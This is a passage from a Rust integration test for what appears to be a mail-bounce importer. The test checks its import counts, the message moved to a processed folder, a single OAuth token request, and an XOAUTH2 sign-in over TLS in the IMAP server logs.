    assert_eq!(s["already_imported"], 0, "{s}");
    assert_eq!(s["not_bounces"], 1, "{s}");
    assert_eq!(s["moved"], 1, "{s}");
    assert_eq!(s["flagged"], serde_json::json!([gone]));
    assert_eq!(
        server.messages_on_disk(None).len(),
        1,
        "the out-of-office stays"
    );
    assert_eq!(server.messages_on_disk(Some("notify-processed")).len(), 1);
    assert_eq!(oauth.issued(), 1, "one token for the run");
    let sent = oauth.requests();
    let last = sent.last().expect("a token request");
    assert_eq!(
        (last.client_id.as_str(), last.client_secret.as_str()),
        (CLIENT, SECRET)
    );
    assert!(last.issued);
    leaks(&run, oauth.issued_tokens());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let logins = loop {
        let logs = server.logs();
        let logins: Vec<String> = logs
            .lines()
            .filter(|l| l.contains("Login: user=<moped-bounces>"))
            .map(str::to_string)
            .collect();
        if !logins.is_empty() || std::time::Instant::now() > deadline {
            break logins;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert_eq!(logins.len(), 1, "{}", server.logs());
    assert!(
        logins[0].contains("method=XOAUTH2") && logins[0].contains(", TLS"),
        "{}",
        logins[0]
    );
    env.cleanup().await;
}
both!(imap_import_signs_in_with_xoauth2);
